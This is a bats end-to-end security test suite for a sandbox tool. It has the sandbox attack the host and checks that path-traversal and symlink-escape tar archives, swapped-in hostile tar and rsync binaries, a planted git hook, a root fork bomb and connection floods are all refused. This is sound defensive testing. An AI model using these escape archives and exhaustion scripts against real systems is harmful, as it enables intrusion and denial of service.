#!/usr/bin/env bats
# The sandbox attacks the host, on the backend in $SS_E2E_BACKEND: as the agent and as root
# inside, it tries to make apply and pull write outside what they should (links swapped in
# between and inside one archive, '..' and absolute names, setuid and device files, a tar, a
# stat and an rsync of its own earlier on PATH, names with line breaks, a file growing while it
# is read, links through links, '.git' and excluded paths, sparse and endless streams, changes of
# the executable bit alone), and to take the host's resources (a fork bomb, lookups from many
# source ports, ss-net's descriptors, a path too long for a snapshot). Each attempt is refused or
# made harmless, and a canary tree beside the project never changes.

load helpers

setup_file() {
  e2e_sandbox_file ho
  ss new ho-app --copy >/dev/null
  # Small shares, for the resource tests to reach them in seconds.
  ss config set "sandboxes.$SANDBOX.processes" 512 >/dev/null
  ss config set "sandboxes.$SANDBOX.network.connections" 256 >/dev/null
  ss vm start --sandbox "$SANDBOX" --backend "$SS_E2E_BACKEND" >&3 2>&1
  # The canary: a tree outside the project that nothing may touch.
  mkdir -p "$E2E_ROOT/canary/sub"
  echo secret > "$E2E_ROOT/canary/secret"
  echo deep > "$E2E_ROOT/canary/sub/deep"
  canary_sum > "$BATS_FILE_TMPDIR/canary.sum"
}

teardown_file() {
  e2e_sandbox_remove
}

setup() {
  e2e_sandbox_env
  P="$SS_HOME/copy-projects/ho-app"
  C="$E2E_ROOT/canary"
}

teardown() {
  # Every test ends with the canary as it was, and the sandbox's own tools back.
  run canary_sum
  assert_output "$(cat "$BATS_FILE_TMPDIR/canary.sum")"
  [ -e "$BATS_FILE_TMPDIR/deleted" ] || in_sandbox 'sudo -n rm -f /usr/local/bin/tar /usr/local/bin/stat /usr/local/bin/rsync'
  ss config set sync.max_size 1GB >/dev/null
}

# Inside the sandbox, before a command: w COND waits up to 4 s for a shell condition (a VM's shared
# folder shows the host's changes only after its cache's second).
INSIDE_WAIT='w() { i=0; while [ $i -lt 40 ]; do eval "$1" && return 0; sleep 0.1; i=$((i+1)); done; return 1; };'

canary_sum() { (cd "$E2E_ROOT/canary" && find . -printf '%p %y %m %s %T@\n' | sort && cat secret sub/deep) | sha256sum; }
in_sandbox() { sandbox_ssh "$SANDBOX" "$@"; }
in_copy() { in_sandbox "cd ~/copy-projects/ho-app && $1"; }
# fake_tar ARCHIVE: the sandbox's tar, for every later command, prints ARCHIVE (made on the host).
fake_tar() {
  ss push "$1" /tmp/evil.tar >/dev/null
  in_sandbox 'printf "#!/bin/sh\nexec cat /tmp/evil.tar\n" | sudo -n tee /usr/local/bin/tar >/dev/null && sudo -n chmod 755 /usr/local/bin/tar'
}
# fake_rsync: the sandbox's rsync, for every later command, drops every exclusion it is handed
# (--exclude-from FILE, --exclude-from=FILE, --exclude=PATTERN) and runs the real one.
fake_rsync() {
  printf '%s\n' '#!/bin/sh' 'skip=' 'for a; do' '  shift' \
    '  if [ -n "$skip" ]; then skip=; continue; fi' '  case $a in' \
    '    --exclude-from) skip=1 ;;' '    --exclude-from=* | --exclude=*) ;;' \
    '    *) set -- "$@" "$a" ;;' '  esac' 'done' 'exec /usr/bin/rsync "$@"' > "$BATS_TEST_TMPDIR/rsync"
  ss push "$BATS_TEST_TMPDIR/rsync" /tmp/evil-rsync >/dev/null
  in_sandbox 'sudo -n install -m 755 /tmp/evil-rsync /usr/local/bin/rsync'
}
# hostile_archive PATH TOP: a pax archive of what a hostile tar would send for TOP.
hostile_archive() {
  python3 - "$1" "$2" "$C" <<'EOF'
import io, sys, tarfile
path, top, canary = sys.argv[1:]
t = tarfile.open(path, "w", format=tarfile.PAX_FORMAT)
def add(name, kind=tarfile.REGTYPE, data=b"", mode=0o644, link=""):
    i = tarfile.TarInfo(name)
    i.type, i.mode, i.linkname = kind, mode, link
    i.size = len(data) if kind == tarfile.REGTYPE else 0
    if kind in (tarfile.CHRTYPE, tarfile.BLKTYPE):
        i.devmajor, i.devminor = 1, 3
    t.addfile(i, io.BytesIO(data) if i.size else None)
add(top, tarfile.DIRTYPE, mode=0o755)
add(top + "/ok.txt", data=b"ok\n")
add(top + "/../../escape.txt", data=b"x")
add(canary + "/abs.txt", data=b"x")
add(top + "/out", tarfile.SYMTYPE, link=canary)
add(top + "/out/evil", data=b"x")
add(top + "/up", tarfile.SYMTYPE, link="../../../canary")
add(top + "/inner", tarfile.SYMTYPE, link="ok.txt")
add(top + "/inner/evil", data=b"x")
add(top + "/suid", data=b"#!/bin/sh\n", mode=0o4755)
add(top + "/dev", tarfile.CHRTYPE)
add(top + "/fifo", tarfile.FIFOTYPE)
add(top + "/hard", tarfile.LNKTYPE, link=top + "/ok.txt")
add(top + "/line\nbreak", data=b"nl\n")
add("other/x", data=b"x")
t.close()
EOF
}

# order_archive PATH DEEP REL: a tar of the sandbox's own for /tmp/tree in which the link others
# go through (tree/DEEP/y, back to tree) arrives last, after the links that use it.
order_archive() {
  python3 - "$1" "$2" "$3" <<'EOF'
import sys, tarfile
path, deep, rel = sys.argv[1:]
t = tarfile.open(path, "w", format=tarfile.PAX_FORMAT)
def add(name, kind=tarfile.DIRTYPE, link=""):
    i = tarfile.TarInfo(name)
    i.type, i.mode, i.linkname = kind, 0o755, link
    t.addfile(i)
add("tree")
add("tree/esc", tarfile.SYMTYPE, deep + "/y/../" + rel + "/secret")
add("tree/chain", tarfile.SYMTYPE, "next")
add("tree/next", tarfile.SYMTYPE, "../../..")
add("tree/" + deep + "/y", tarfile.SYMTYPE, "../../../../../../../../../..")
t.close()
EOF
}

@test "the swap of the issue: a link out of the project is never applied, so nothing is written through it" {
  ss sync ho-app >/dev/null
  in_copy "ln -s '$C' link"
  run ss diff ho-app
  assert_success
  assert_line "+symbolic link to $C"
  run --separate-stderr ss apply ho-app --yes
  assert_failure 1
  assert_line "  A link"
  [[ "$stderr" == *"link: a symbolic link to '$C', outside the project"* ]] || { echo "$stderr"; false; }
  assert_not_exists "$P/link"
  in_copy 'rm link && mkdir link && echo x > link/evil'
  run ss apply ho-app --yes
  assert_success
  # Inside the project, where it belongs.
  assert_equal "$(cat "$P/link/evil")" "x"
  [ ! -L "$P/link" ]
}

@test "a link the user made on the host is not written through when the copy puts a folder there" {
  as_owner ln -s "$C" "$P/out"
  ss sync ho-app >/dev/null
  in_copy 'rm out && mkdir out && echo x > out/secret'
  run --separate-stderr ss apply ho-app --yes
  assert_failure 1
  [[ "$stderr" == *"out/secret: 'out' on the host is a symbolic link or not a directory"* ]] || { echo "$stderr"; false; }
  [ -L "$P/out" ]
  rm "$P/out"
  ss sync ho-app --force >/dev/null
}

@test "as root in the sandbox: setuid bits are dropped, devices and fifos are not applied, hard links arrive as files" {
  ss sync ho-app >/dev/null
  # (An unprivileged LXD container may not make device nodes at all.)
  in_copy 'sudo -n install -m 4755 /bin/true suid && { sudo -n mknod dev c 1 3 2>/dev/null || true; } &&
    sudo -n mkfifo fifo && echo same > a && ln a b'
  run ss diff ho-app
  diff_output=$output
  run --separate-stderr ss apply ho-app --yes
  apply_status=$status apply_stderr=$stderr
  # Root's files out of the copy again, before anything can fail (a later sync runs as the
  # sandbox user and cannot replace them).
  in_copy 'sudo -n rm -f dev fifo suid'
  [[ "$diff_output" == *"+special file (not applied)"* ]] || { echo "$diff_output"; false; }
  assert_equal "$apply_status" 1
  [[ "$apply_stderr" == *"fifo: a fifo"* ]] || { echo "$apply_stderr"; false; }
  assert_equal "$(stat -c %a "$P/suid")" "755"
  assert_equal "$(stat -c %u "$P/suid")" "$(stat -c %u "$P")"
  # rsync, as the sandbox user, never even lists the device; either way it does not arrive.
  assert_not_exists "$P/dev"
  assert_not_exists "$P/fifo"
  assert_equal "$(cat "$P/b")" "same"
  assert_equal "$(stat -c %h "$P/b")" "1"
  ss sync ho-app --force >/dev/null
}

@test "a name with a line break is applied whole and shown without the break" {
  ss sync ho-app >/dev/null
  in_copy "printf nl > 'two
lines'"
  # In the diff too: its headers are one line each, never one that the name made.
  run ss diff ho-app
  assert_success
  assert_line "+++ b/two^Jlines"
  refute_line "lines"
  run ss apply ho-app --yes
  assert_success
  assert_line "  A two^Jlines"
  assert_equal "$(cat "$P/two
lines")" "nl"
}

@test "pull: no setuid bit, no parent the user did not name, no link out" {
  t="$BATS_TEST_TMPDIR"
  in_sandbox 'sudo -n install -m 4755 /bin/true /tmp/suid && ln -sf /etc/passwd /tmp/link'
  run ss pull /tmp/suid "$t/suid"
  assert_success
  assert_equal "$(stat -c %a "$t/suid")" "755"
  run --separate-stderr ss pull /tmp/suid /nonexistent-$$/x
  assert_failure 66
  assert_equal "${stderr_lines[0]}" "ss-sync: error: cannot write /nonexistent-$$/x: no such directory /nonexistent-$$"
  assert_not_exists "/nonexistent-$$"
  run --separate-stderr ss pull /tmp/link "$t/link"
  assert_failure 65
  assert_equal "${stderr_lines[0]}" "ss-sync: error: /tmp/link in the sandbox is a symbolic link to '/etc/passwd'"
}

@test "a tar of the sandbox's own: every hostile entry of its archive is refused, the rest lands inside" {
  t="$BATS_TEST_TMPDIR"
  ss sync ho-app --force >/dev/null
  in_copy 'echo changed > asked.txt'
  hostile_archive "$t/evil.tar" tree
  fake_tar "$t/evil.tar"
  mkdir "$t/into"
  run --separate-stderr ss pull /tmp/tree "$t/into/"
  assert_failure 1
  assert_equal "$(cat "$t/into/tree/ok.txt")" "ok"
  assert_equal "$(stat -c %a "$t/into/tree/suid")" "755"
  for bad in "tree/../../escape.txt" "$C/abs.txt" "tree/out: a symbolic link" "tree/up: a symbolic link" \
    "tree/inner/evil: 'tree/inner' on the host" \
    "tree/dev: a character device" "tree/fifo: a fifo" "tree/hard: a hard link" "other/x: not below"; do
    [[ "$stderr" == *"$bad"* ]] || { echo "missing: $bad"; echo "$stderr"; false; }
  done
  assert_not_exists "$t/escape.txt"
  assert_not_exists "$C/abs.txt"
  assert_not_exists "$t/into/other"
  # A name given twice (a link, then a folder, as what is shown is the last): refused whole.
  python3 - "$t/twice.tar" <<'EOF'
import io, sys, tarfile
t = tarfile.open(sys.argv[1], "w", format=tarfile.PAX_FORMAT)
for name, kind, link in (("tree", tarfile.DIRTYPE, ""), ("tree/ok.txt", tarfile.REGTYPE, ""),
                         ("tree/inner", tarfile.SYMTYPE, "ok.txt"), ("tree/inner", tarfile.DIRTYPE, "")):
    i = tarfile.TarInfo(name)
    i.type, i.mode, i.linkname = kind, 0o755, link
    i.size = 3 if kind == tarfile.REGTYPE else 0
    t.addfile(i, io.BytesIO(b"ok\n") if i.size else None)
t.close()
EOF
  fake_tar "$t/twice.tar"
  mkdir "$t/into2"
  run --separate-stderr ss pull /tmp/tree "$t/into2/"
  assert_failure 255
  assert_equal "${stderr_lines[0]}" "ss-sync: error: the sandbox's archive gives 'tree/inner/' more than once; nothing was written"
  assert_equal "$(ls -A "$t/into2")" ""
  fake_tar "$t/evil.tar"
  # The same archive as apply's answer: only what was asked for, and never through a link.
  run --separate-stderr ss apply ho-app --yes
  assert_failure 1
  assert_not_exists "$P/tree"
  assert_not_exists "$P/asked.txt"
  [[ "$stderr" == *"tree/ok.txt: not one of the files asked for"* ]] || { echo "$stderr"; false; }
  # Garbage for an archive: the sandbox is named, nothing is written.
  head -c 3000 /dev/urandom > "$t/garbage"
  fake_tar "$t/garbage"
  run --separate-stderr ss pull /tmp/tree "$t/garbage-into"
  assert_failure 255
  [[ "${stderr_lines[0]}" == "ss-sync: error: sandbox '$SANDBOX' sent a malformed archive (at byte 0: "* ]] || { echo "$stderr"; false; }
  assert_not_exists "$t/garbage-into"
}

@test "a stat of the sandbox's own that answers garbage is the sandbox's fault (255), not a crash" {
  in_sandbox 'printf "#!/bin/sh\necho d 99999999999999999999 x y\n" | sudo -n tee /usr/local/bin/stat >/dev/null && sudo -n chmod 755 /usr/local/bin/stat'
  echo x > "$BATS_TEST_TMPDIR/f"
  run --separate-stderr ss push "$BATS_TEST_TMPDIR/f" /tmp/f
  assert_failure 255
  [[ "${stderr_lines[0]}" == "ss-sync: error: the sandbox's stat answered something ss does not understand about /tmp/f: "* ]] || { echo "$stderr"; false; }
}

@test "a file growing while it is pulled: whole, or refused with nothing written; a large file arrives whole" {
  t="$BATS_TEST_TMPDIR"
  # On the sandbox's disk, bounded (32 MiB): a fast endless writer would fill a container's
  # memory-backed /tmp. Only the writer goes to the background, its output away from the SSH
  # session, which returns once the file is there: the pulls race it.
  in_sandbox 'truncate -s 64M ~/large; setsid sh -c "for i in \$(seq 2048); do head -c 16384 /dev/urandom >> ~/grow; sleep 0.005; done" </dev/null >/dev/null 2>&1 & echo $! > ~/grow.pid; until [ -s ~/grow ]; do sleep 0.05; done'
  for n in 1 2 3; do
    # Named before `run`, which sets a variable `i` of its own.
    dest="$t/grow-$n"
    run --separate-stderr ss pull /home/sandbox/grow "$dest"
    if [ "$status" -eq 75 ]; then
      assert_equal "${stderr_lines[0]}" "ss-sync: error: /home/sandbox/grow in the sandbox changed while it was read"
      assert_not_exists "$dest"
    else
      assert_success
    fi
  done
  # Still growing when the last pull ended: the pulls raced it.
  run in_sandbox 'kill $(cat ~/grow.pid)'
  assert_success
  in_sandbox 'rm -f ~/grow ~/grow.pid'
  run ss pull /home/sandbox/large "$t/large"
  assert_success
  assert_equal "$(stat -c %s "$t/large")" "67108864"
  in_sandbox 'rm -f ~/large'
}

@test "nothing is written in the sandbox to look: with /etc/ss full, diff, apply, pull and exec still work" {
  ss sync ho-app --force >/dev/null
  in_copy 'echo read-only-rescue > rescue.txt'
  # A full filesystem where ss used to write a file before every copy-mode command.
  in_sandbox 'sudo -n sh -c "cp /etc/ss/sync-exclude /tmp/se && mount -t tmpfs -o size=64k tmpfs /etc/ss &&
    cp /tmp/se /etc/ss/sync-exclude && (dd if=/dev/zero of=/etc/ss/fill bs=4k 2>/dev/null || true)"'
  run ss diff ho-app
  assert_success
  assert_line "+read-only-rescue"
  run ss pull rescue.txt "$BATS_TEST_TMPDIR/rescue.txt" --project ho-app
  assert_success
  run ss exec ho-app -- cat rescue.txt
  assert_output "read-only-rescue"
  # The sandbox's copy of the base on a full filesystem too: apply still brings the change, and
  # says the sandbox could not follow.
  in_sandbox 'sudo -n sh -c "mount -t tmpfs -o size=64k tmpfs /home/sandbox/.ss/bases &&
    (dd if=/dev/zero of=/home/sandbox/.ss/bases/fill bs=4k 2>/dev/null || true)"'
  run --separate-stderr ss apply ho-app --yes
  in_sandbox 'sudo -n umount /home/sandbox/.ss/bases; sudo -n umount /etc/ss'
  assert_success
  assert_equal "$(cat "$P/rescue.txt")" "read-only-rescue"
  [[ "$stderr" == *"could not record this in the sandbox (is its disk full?)"* ]] || { echo "$stderr"; false; }
  run ss sync ho-app
  assert_success
}

# The resource limits below are a container's (a cgroup's pids, the fence's bridge): a VM's own
# kernel bounds its processes, QEMU's guest reaches ss-net through its user network's relays, and
# Lima's and Lume's sandboxes are not fenced. The Lima and Lume stand-ins run the guest's
# processes on this machine's kernel, which their real VMs never do: a fork bomb there would take
# this machine's.
containers_only() {
  case $SS_E2E_BACKEND in
    lxd | docker | podman) ;;
    *) skip "$1" ;;
  esac
}

@test "resources: a fork bomb as root takes the sandbox's tasks, never the host's; the sandbox recovers" {
  containers_only "vm.processes bounds containers; a VM's processes are its own kernel's"
  local before peak
  before=$(find /proc -maxdepth 1 -name '[0-9]*' | wc -l)
  # Root tries to lift the limit first: the cgroup's pids.max is not its to write, mounted
  # afresh or not.
  run in_sandbox "sudo -n sh -c 'd=\$(mktemp -d); mount -t cgroup2 none \$d 2>/dev/null || d=/sys/fs/cgroup; echo max > \$d/pids.max && cat \$d/pids.max'"
  refute_output "max"
  # As root: fork until fork fails, every child holding on for a few seconds.
  in_sandbox "sudo -n python3 -c '
import os, time
n, why = 0, \"\"
while n < 100000:
    try:
        pid = os.fork()
    except OSError as e:
        why = e.strerror
        break
    if pid == 0:
        time.sleep(3)
        os._exit(0)
    n += 1
print(\"full\", n, why, flush=True)
time.sleep(1)
'" >"$BATS_TEST_TMPDIR/bomb" 2>&1 3>&- &
  local bomb=$!
  for _ in $(seq 100); do grep -q '^full' "$BATS_TEST_TMPDIR/bomb" && break; sleep 0.1; done
  peak=$(find /proc -maxdepth 1 -name '[0-9]*' | wc -l)
  wait "$bomb" || true
  echo "# fork bomb on $SS_E2E_BACKEND: $(cat "$BATS_TEST_TMPDIR/bomb"); host processes $before, then $peak" >&3
  run cat "$BATS_TEST_TMPDIR/bomb"
  assert_output --regexp '^full [0-9]+ Resource temporarily unavailable$'
  [ "$(awk '{print $2}' "$BATS_TEST_TMPDIR/bomb")" -lt 512 ]
  # The host's own count moved by the sandbox's share at most (and what else runs here).
  [ "$((peak - before))" -le 700 ]
  # Threads count too, for the sandbox user as for root.
  run in_sandbox "python3 -c '
import threading, time
n = 0
try:
    while n < 100000:
        threading.Thread(target=time.sleep, args=(2,), daemon=True).start()
        n += 1
except RuntimeError:
    pass
print(n < 512)
'"
  assert_output "True"
  # Once they are gone the sandbox works as before.
  sleep 2
  run in_sandbox "sh -c 'for i in 1 2 3 4 5 6 7 8; do true & done; wait; echo recovered'"
  assert_output "recovered"
}

@test "resources: connections over the sandbox's share of ss-net are refused with the reason; ss-net does not spin and serves the next" {
  containers_only "the share is counted on a fenced bridge; QEMU's guest reaches ss-net through relays, Lima and Lume are not fenced"
  local gateway pid before after
  gateway=$(in_sandbox "ip route show default | awk '{print \$3}'")
  pid=$(jq -r .pid "$SS_HOME/.ss/sandboxes/$SANDBOX/net/serve.json")
  before=$(awk '{print $14 + $15}' "/proc/$pid/stat")
  # As root: 200 connections to the proxy at once, held (ss-net serves 128 at once).
  run in_sandbox "sudo -n python3 -c '
import socket, time
held, closed = [], 0
for i in range(200):
    s = socket.socket()
    s.setblocking(False)
    try: s.connect((\"$gateway\", 3128))
    except BlockingIOError: pass
    held.append(s)
time.sleep(1.5)
for s in held:
    try:
        if s.recv(1) == b\"\": closed += 1
    except BlockingIOError: pass
    except OSError: closed += 1
print(\"closed\", closed)
'"
  echo "# ss-net share on $SS_E2E_BACKEND: $output" >&3
  assert_output --regexp '^closed [0-9]+$'
  [ "${output#closed }" -ge 50 ]
  after=$(awk '{print $14 + $15}' "/proc/$pid/stat")
  [ "$((after - before))" -le 100 ]
  run ss net log --json --sandbox "$SANDBOX"
  echo "$output" | jq -e -s 'map(select(.verdict == "deny" and (.reason | test("over its share of 128 connections")))) | length >= 1'
  # The next connection is served.
  run in_sandbox "curl -s -m 10 http://$gateway:3128/denials"
  assert_output --partial "over its share of 128 connections"
}

@test "resources: lookups and connections from many source ports stop at the sandbox's share of the host's connection tracking" {
  containers_only "connection tracking is counted on a fenced bridge; QEMU's user network tracks nothing on the host, Lima and Lume are not fenced"
  local before after gateway address
  gateway=$(in_sandbox "ip route show default | awk '{print \$3}'")
  address=$(in_sandbox "ip -4 -o addr show scope global | awk '{print \$4}' | cut -d/ -f1 | head -1")
  # The host's entries whose original source is the sandbox (other tests run beside this one).
  tracked() { awk -v ip="src=$address" '{ for (i = 1; i <= NF; i++) if ($i ~ /^src=/) { if ($i == ip) n++; break } } END { print n + 0 }' /proc/net/nf_conntrack; }
  before=$(tracked)
  # As root: 3000 lookups, each from a source port of its own, to the gateway and to resolvers
  # outside; then 600 connections to the web, none waited for.
  in_sandbox "sudo -n python3 -c '
import socket, struct
q = struct.pack(\"!HHHHHH\", 7, 0x0100, 1, 0, 0, 0) + b\"\\x04evil\\x04test\\x00\\x00\\x01\\x00\\x01\"
for i in range(3000):
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try: u.sendto(q, (\"$gateway\" if i % 2 else \"192.0.2.%d\" % (1 + i % 200), 53))
    except OSError: pass
    u.close()
held = []
for i in range(600):
    t = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    t.setblocking(False)
    try: t.connect((\"192.0.2.%d\" % (1 + i % 200), 443))
    except OSError: pass
    held.append(t)
'"
  after=$(tracked)
  echo "# the host's tracked connections from the sandbox on $SS_E2E_BACKEND: $before, then $after" >&3
  # Its share is 256: the host's table took that many more of its flows, not 3600.
  [ "$((after - before))" -le 300 ]
  run nft list chain inet ss "sandbox-$SANDBOX-in"
  assert_output --regexp 'ct count over 256 counter packets [0-9]{3,}'
}

@test "resources: a path longer than 4096 bytes: a snapshot is taken or refused whole, and the sandbox can still be deleted" {
  case $SS_E2E_BACKEND in
    lima | lume) skip "the stand-ins snapshot with cp -a of a host folder; real Lima and Lume copy a disk image" ;;
  esac
  # As root, 25 folders of 200 characters, one in another: a path of over 5000 bytes.
  in_sandbox "sudo -n python3 -c '
import os
os.chdir(\"/root\")
for i in range(25):
    os.mkdir(\"d\" * 200)
    os.chdir(\"d\" * 200)
open(\"deep.txt\", \"w\").write(\"deep\")
'"
  run --separate-stderr ss snapshot deep
  echo "# snapshot with a deep path on $SS_E2E_BACKEND: status $status $stderr" >&3
  if [ "$status" = 0 ]; then
    run ss snapshots --json
    echo "$output" | jq -e '[.items[].name] | index("deep") != null'
    ss snapshot delete deep --yes >/dev/null
  else
    assert_failure 73
    [[ "$stderr" == *"a path in it is longer than the 4096 bytes"* ]] || { echo "$stderr"; false; }
    [ "${#stderr}" -lt 1000 ]
    run ss snapshots --json
    echo "$output" | jq -e '[.items[].name] | index("deep") == null'
    # Nothing half-made on disk either.
    [ "$SS_E2E_BACKEND" != lxd ] || [ ! -e "/var/lib/lxd/storage-pools/default/containers-snapshots/$SANDBOX/deep" ]
  fi
  # The deep folder stays: the last test deletes the sandbox with it.
}

@test "an ephemeral sandbox whose working copy has changes not yet applied is kept when its last session ends" {
  ss config set "sandboxes.$SANDBOX.ephemeral" true >/dev/null
  run --separate-stderr ss ho-app -- sh -c 'echo kept > kept.txt && echo inside'
  ss config set "sandboxes.$SANDBOX.ephemeral" false >/dev/null
  assert_success
  assert_output "inside"
  assert_equal "${stderr_lines[-1]}" "ss: warning: kept ephemeral sandbox '$SANDBOX': working copies have changes not yet applied (ho-app); bring them to the host with ss apply, then remove it: ss vm delete --sandbox $SANDBOX --force"
  run ss vm status --json
  echo "$output" | jq -e '.state == "running"'
}

@test "as root in the sandbox: an rsync that drops the exclusions brings no .git and no excluded path to the host, and deletes none" {
  t="$BATS_TEST_TMPDIR"
  [ -d "$P/.git" ] || as_owner git -C "$P" init -q
  before=$(cd "$P/.git" && find . -type f -exec sha256sum {} + | sort)
  ss sync ho-app --force >/dev/null
  in_copy "mkdir -p .git/hooks sub/.GIT node_modules/pkg &&
    printf '#!/bin/sh\ntouch $t/pwned\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit &&
    echo '[core]' > sub/.GIT/config && echo evil > node_modules/pkg/index.js && echo fine > fine.txt &&
    echo kept > sub/kept.txt"
  fake_rsync
  # The host's .git never reached the sandbox; the replaced rsync lists all the copy has.
  in_sandbox 'test ! -e ~/project-src/ho-app/.git'
  run in_copy 'rsync -a --dry-run --delete --exclude-from=/etc/ss/sync-exclude --out-format="%i %n" ./ ~/project-src/ho-app/'
  [[ "$output" == *".git/hooks/pre-commit"* && "$output" == *"sub/.GIT/config"* ]] || { echo "$output"; false; }
  run ss diff ho-app
  assert_success
  assert_line "+fine"
  refute_output --partial ".git"
  refute_output --partial "node_modules"
  run --separate-stderr ss apply ho-app --yes
  assert_failure 1
  for bad in ".git/hooks/pre-commit: in a .git folder" "sub/.GIT/config: in a .git folder" \
    "node_modules/pkg/index.js: excluded by sync.exclude ('node_modules')"; do
    [[ "$stderr" == *"$bad"* ]] || { echo "missing: $bad"; echo "$stderr"; false; }
  done
  assert_equal "$(cat "$P/fine.txt")" "fine"
  assert_equal "$(cat "$P/sub/kept.txt")" "kept"
  assert_not_exists "$P/sub/.GIT"
  assert_not_exists "$P/node_modules"
  # The host's .git is as it was, and its git runs nothing of the sandbox's.
  assert_equal "$(cd "$P/.git" && find . -type f -exec sha256sum {} + | sort)" "$before"
  as_owner git -C "$P" -c user.name=t -c user.email=t@example.invalid commit -q --allow-empty -m probe
  as_owner git -C "$P" status --short >/dev/null
  assert_not_exists "$t/pwned"
  # pull too: the tree arrives without the .git folder inside it.
  mkdir "$t/into"
  run --separate-stderr ss pull sub "$t/into/" --project ho-app
  assert_failure 1
  [[ "$stderr" == *"sub/.GIT/config: in a .git folder"* ]] || { echo "$stderr"; false; }
  assert_equal "$(cat "$t/into/sub/kept.txt")" "kept"
  assert_not_exists "$t/into/sub/.GIT"
  in_copy 'rm -rf .git sub/.GIT node_modules'
}

@test "links are followed through the tree as it will stand: through a link, in chains, through the host's links, in either order" {
  t="$BATS_TEST_TMPDIR"
  deep=k1/k2/k3/k4/k5/k6/k7/k8/k9/k10
  # From the project's top to the canary, as the kernel would walk it on the host.
  rel=$(realpath --relative-to="$P" "$C")
  as_owner mkdir -p "$P/h"
  as_owner ln -sfn .. "$P/h/up"
  ss sync ho-app --force >/dev/null
  # The issue's pair (y leads back to the top, inside; esc climbs on through y), a chain whose
  # last link leaves, the host's link followed then climbed out of, an absolute target, '..' at
  # the top; and links that stay inside.
  in_copy "mkdir -p $deep sub && ln -s ../../../../../../../../../.. $deep/y &&
    ln -s $deep/y/$rel/secret esc && ln -s l2 l1 && ln -s l3 l2 && ln -s sub/../.. l3 &&
    ln -s h/up/$rel/secret via-host && ln -s h/up/../x climb && ln -s /etc/passwd abs &&
    ln -s .. up && ln -s $deep/y/sub fine && ln -s k1/k2/../k2/k3 inside"
  run --separate-stderr ss apply ho-app --yes
  assert_failure 1
  for bad in esc l1 l2 l3 via-host climb abs up; do
    [[ "$stderr" == *"  $bad: a symbolic link to "* ]] || { echo "missing: $bad"; echo "$stderr"; false; }
    [ ! -L "$P/$bad" ] || { echo "written: $bad"; false; }
  done
  [[ "$stderr" == *"esc: a symbolic link to '$deep/y/$rel/secret', climbing back out of where '$deep/y' leads"* ]] || { echo "$stderr"; false; }
  for good in "$deep/y" fine inside; do
    [ -L "$P/$good" ] || { echo "not written: $good"; false; }
  done
  # The same from a tar of the sandbox's own, the link that is used arriving last.
  order_archive "$t/order.tar" "$deep" "$rel"
  fake_tar "$t/order.tar"
  mkdir "$t/into"
  run --separate-stderr ss pull /tmp/tree "$t/into/"
  assert_failure 1
  for bad in tree/esc tree/chain tree/next; do
    [[ "$stderr" == *"$bad: a symbolic link to "* ]] || { echo "missing: $bad"; echo "$stderr"; false; }
  done
  [ -L "$t/into/tree/$deep/y" ]
  [ ! -L "$t/into/tree/esc" ]
  in_sandbox 'sudo -n rm -f /usr/local/bin/tar'
  in_copy "rm -rf k1 sub esc l1 l2 l3 via-host climb abs up fine inside"
  rm -rf "${P:?}/h" "${P:?}/k1" "${P:?}/fine" "${P:?}/inside"
  ss sync ho-app --force >/dev/null
}

@test "sizes are decided on the host: a sparse file crosses sparse, past sync.max_size nothing is written (65), an endless stream stops" {
  t="$BATS_TEST_TMPDIR"
  ss sync ho-app --force >/dev/null
  in_copy 'truncate -s 512M sparse && printf tail >> sparse'
  # Archives wait under the cache folder, not in a memory-backed /tmp.
  SS_CACHE="$t/cache" run ss diff ho-app
  assert_success
  SS_CACHE="$t/cache" run ss apply ho-app --yes
  assert_success
  assert_equal "$(stat -c %s "$P/sparse")" "536870916"
  assert_equal "$(tail -c 4 "$P/sparse")" "tail"
  [ "$(du -k "$P/sparse" | cut -f1)" -lt 1024 ] || { du -k "$P/sparse"; false; }
  [ -d "$t/cache/spool" ] && [ -z "$(ls -A "$t/cache/spool")" ]
  ss config set sync.max_size 1MB >/dev/null
  in_copy 'head -c 2097152 /dev/urandom > random.bin'
  for verb in diff apply; do
    SS_CACHE="$t/cache" run --separate-stderr ss "$verb" ho-app
    assert_failure 65
    [[ "${stderr_lines[0]}" == "ss-sync: error: sandbox '$SANDBOX' sent more than 1 MB (an archive), the most sync.max_size lets a sandbox send at once" ]] || { echo "$stderr"; false; }
    [[ "$stderr" == *"hint: nothing was written on the host"* ]] || { echo "$stderr"; false; }
  done
  assert_not_exists "$P/random.bin"
  # Holes count too: small in the stream, large on the host.
  in_copy 'rm random.bin && truncate -s 4M holes'
  run --separate-stderr ss apply ho-app --yes
  assert_failure 65
  [[ "${stderr_lines[0]}" == *"sent more than 1 MB (files of that size, holes included)"* ]] || { echo "$stderr"; false; }
  assert_not_exists "$P/holes"
  # A tar of the sandbox's own that never stops: cut at the limit.
  in_sandbox 'printf "#!/bin/sh\nexec cat /dev/zero\n" | sudo -n tee /usr/local/bin/tar >/dev/null && sudo -n chmod 755 /usr/local/bin/tar'
  SS_CACHE="$t/cache" run --separate-stderr timeout 120 ss pull /etc/hostname "$t/hostname"
  assert_failure 65
  assert_not_exists "$t/hostname"
  [ -z "$(ls -A "$t/cache/spool")" ]
  in_sandbox 'sudo -n rm -f /usr/local/bin/tar'
  in_copy 'rm -f holes sparse'
  rm -f "$P/sparse"
  ss config set sync.max_size 1GB >/dev/null
  ss sync ho-app --force >/dev/null
}

@test "a change of the executable bit alone is a change: diff shows it, delete and sync refuse, apply brings that bit and no other" {
  as_owner sh -c "printf '#!/bin/sh\necho hi\n' > '$P/run.sh' && chmod 644 '$P/run.sh' && printf 'x\n' > '$P/tool' && chmod 755 '$P/tool'"
  ss sync ho-app --force >/dev/null
  in_copy 'chmod +x run.sh && chmod -x tool'
  run ss diff ho-app
  assert_success
  assert_line "mode change 644 => 755 run.sh"
  assert_line "mode change 755 => 644 tool"
  run ss diff ho-app --stat
  assert_success
  assert_line " run.sh | 0"
  run --separate-stderr ss vm delete --yes
  assert_failure 1
  assert_equal "${stderr_lines[0]}" "ss-vm: error: delete would lose changes not yet applied in 1 working copy of sandbox '$SANDBOX'"
  # A sync would take the bits back: it refuses too.
  as_owner sh -c "echo again >> '$P/run.sh'"
  run --separate-stderr ss sync ho-app
  assert_failure 1
  [[ "$stderr" == *"changed in the working copy of 'ho-app'"* ]] || { echo "$stderr"; false; }
  as_owner sh -c "printf '#!/bin/sh\necho hi\n' > '$P/run.sh'"
  run ss apply ho-app --yes
  assert_success
